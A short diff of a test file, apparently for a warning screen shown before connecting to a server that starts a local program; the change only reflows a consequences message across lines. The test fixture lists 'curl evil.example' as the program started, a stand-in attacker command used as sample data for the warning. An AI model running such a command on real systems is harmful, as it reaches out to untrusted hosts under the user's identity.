@@ -215,7 +215,9 @@ it('names the connections and the files that end by a change', async () => {
 
 const LAUNCH: LaunchView = {
   kind: 'program',
-  consequences: ['Connecting starts this program on your computer, as you and with your environment variables.'],
+  consequences: [
+    'Connecting starts this program on your computer, as you and with your environment variables.',
+  ],
   rows: [{ label: 'Starts', values: ['curl evil.example'] }],
 };
 
